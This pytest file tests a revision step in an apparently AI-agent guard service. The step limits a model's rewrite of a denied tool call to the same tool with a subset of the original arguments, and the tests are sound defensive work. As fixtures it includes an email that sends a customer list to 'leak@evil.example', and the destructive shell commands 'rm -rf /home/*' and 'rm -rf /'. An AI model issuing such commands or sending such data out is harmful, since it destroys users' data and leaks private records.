"""The shape of a revision (service/decision/revision.py): its grammar holds any logits to a call of
the same tool with a subset of the original's keys, its parser refuses anything else, and its
prompt extends the judge's conversation."""

from __future__ import annotations

import json
from typing import Any

import numpy as np
import pytest

from service.backends.base import ChatMessage, Prompt
from service.backends.guidance import GuidanceLogitsProcessor, TokenMask
from service.decision.reviser import unsafe_verdict
from service.decision.revision import (
    InvalidRevisionError,
    parse_revision,
    plan_revision,
    revision_prompt,
)
from service.schemas import Decision, RuleEvidence, TextAction, ToolAction
from tests.test_guidance import vocab

__all__ = ["vocab"]  # the fixture, shared with tests/test_guidance.py

EMAIL = ToolAction(
    tool="send_email",
    arguments={
        "to": ["carol@acme.com", "leak@evil.example"],
        "subject": "Notes",
        "body": "Attached: the customer list.",
        "attach": [{"file": "customers.csv"}, {"file": "notes.txt"}],
        "urgent": True,
        "copies": 2,
        "options": {"track": False, "cc": "boss@acme.com"},
    },
)


def _decode(llm: Any, compiler: Any, gbnf: str, seed: int) -> str:
    """Greedy decoding of random logits under the grammar's mask."""
    mask = TokenMask(compiler.matcher(gbnf), llm.n_vocab(), llm.token_eos())
    processor = GuidanceLogitsProcessor(mask)
    rng = np.random.default_rng(seed)
    ids = [1, 2, 3]
    for _ in range(600):
        logits = rng.normal(size=llm.n_vocab()).astype(np.float32)
        token = int(np.argmax(processor(np.array(ids), logits)))
        if token == llm.token_eos():
            break
        ids.append(token)
    assert mask.error is None
    assert mask.matcher.is_accepting()
    return bytes(llm.detokenize(ids[3:])).decode()


@pytest.mark.parametrize(
    "action",
    [
        EMAIL,
        ToolAction(tool="shell", arguments={"cmd": "rm -rf /home/*"}),
        # lists of one item: a {0,0} repetition broke llguidance (rv-044 of the revise set)
        ToolAction(tool="mail", arguments={"to": ["a@b.c"], "files": [{"f": 1}], "tags": []}),
        TextAction(text="rm x"),
    ],
    ids=["nested-tool", "shell", "one-item-lists", "text"],
)
def test_the_grammar_holds_any_logits_to_the_original_shape(vocab: Any, action: Any) -> None:
    llm, compiler = vocab
    plan = plan_revision(action, 120)
    for seed in range(3):
        text = plan.prefix + _decode(llm, compiler, plan.constraint.gbnf, seed)
        revised = parse_revision(text, plan)
        assert type(revised) is type(action)
        assert len(text) <= len(plan.prefix) + plan.max_chars
        if isinstance(action, ToolAction):
            assert isinstance(revised, ToolAction)
            assert revised.tool == action.tool
            assert revised.arguments and set(revised.arguments) <= set(action.arguments)
            if "attach" in revised.arguments:  # kept or dropped, never invented
                assert all(a in action.arguments["attach"] for a in revised.arguments["attach"])
        else:
            assert isinstance(revised, TextAction) and revised.text.strip()


def test_the_grammar_names_only_the_original_keys_in_their_order() -> None:
    plan = plan_revision(EMAIL, 120)
    gbnf = plan.constraint.gbnf
    for key in EMAIL.arguments:
        assert json.dumps(json.dumps(key) + ": ") in gbnf
    assert '"tool"' not in gbnf  # the tool is in the prefix, not the model's to choose
    assert plan.prefix == '{"tool": "send_email", "arguments": {'
    assert plan.constraint.schema["properties"]["arguments"]["propertyNames"] == {
        "enum": list(EMAIL.arguments)
    }
    assert plan.max_tokens(48) == 48 and plan.max_tokens(10_000) < 10_000


def test_strings_are_bounded_by_the_original_and_the_tier() -> None:
    short = plan_revision(ToolAction(tool="shell", arguments={"cmd": "ls"}), 240)
    assert "char{0,80}" in short.constraint.gbnf  # room for a flag or a confirmation step
    long = plan_revision(ToolAction(tool="shell", arguments={"cmd": "x" * 500}), 240)
    assert "char{0,240}" in long.constraint.gbnf  # never past the tier's revision_chars


@pytest.mark.parametrize(
    "text",
    [
        '{"tool": "shell", "arguments": {"cmd": "ls"}}',  # another tool
        '{"tool": "send_email", "arguments": {}}',  # every argument dropped
        '{"tool": "send_email", "arguments": {"bcc": "x@y.z"}}',  # a key of its own
        '{"tool": "send_email", "arguments": {"copies": "two"}}',  # another type
        '{"tool": "send_email", "arguments": {"options": {"forward": true}}}',  # nested key
        '{"tool": "send_email", "arguments": {"urgent": 1}}',  # a number is not a boolean
        '{"tool": "send_email", "arguments": {"to": "carol@acme.com"',  # cut short
        '{"tool": "send_email", "arguments": {"to": []}, "note": "x"}',  # more than an action
    ],
)
def test_the_parser_refuses_what_breaks_the_shape(text: str) -> None:
    with pytest.raises(InvalidRevisionError):
        parse_revision(text, plan_revision(EMAIL, 120))


def test_the_parser_accepts_a_narrower_call() -> None:
    text = '{"tool": "send_email", "arguments": {"to": ["carol@acme.com"], "copies": 1.0}}'
    revised = parse_revision(text, plan_revision(EMAIL, 120))
    assert revised == ToolAction(
        tool="send_email", arguments={"to": ["carol@acme.com"], "copies": 1.0}
    )
    with pytest.raises(InvalidRevisionError):
        parse_revision('{"text": "   "}', plan_revision(TextAction(text="rm -rf /"), 120))


def test_the_prompt_extends_the_judges_conversation() -> None:
    judged = Prompt(
        (ChatMessage("system", "judge"), ChatMessage("user", "## Proposed action\nrm")),
        '{"decision": "',
    )
    plan = plan_revision(ToolAction(tool="shell", arguments={"cmd": "rm -rf /"}), 120)
    rule = RuleEvidence(id="GK-04", text="Deleting data needs a safeguard.")
    prompt = revision_prompt(judged, Decision.DENY, [rule], plan, 120)
    assert prompt.messages[: len(judged.messages)] == judged.messages  # the KV prefix
    assert json.loads(prompt.messages[-2].content) == {"decision": "deny", "evidence": ["GK-04"]}
    ask = prompt.messages[-1].content
    assert "[GK-04] Deleting data needs a safeguard." in ask
    assert "same tool (shell)" in ask and "arguments (cmd)" in ask
    assert prompt.response_prefix == plan.prefix


@pytest.mark.parametrize(
    ("decision", "p_allow", "unsafe"),
    [
        (Decision.DENY, 0.9, True),
        (Decision.REVISE, None, True),
        (Decision.ESCALATE, 0.3, True),
        (Decision.ESCALATE, 0.7, False),  # an allow not certain enough: nothing to revise
        (Decision.ESCALATE, None, False),
        (Decision.ALLOW, 0.1, False),
    ],
)
def test_which_verdicts_a_revision_answers(
    decision: Decision, p_allow: float | None, unsafe: bool
) -> None:
    assert unsafe_verdict(decision, p_allow) is unsafe
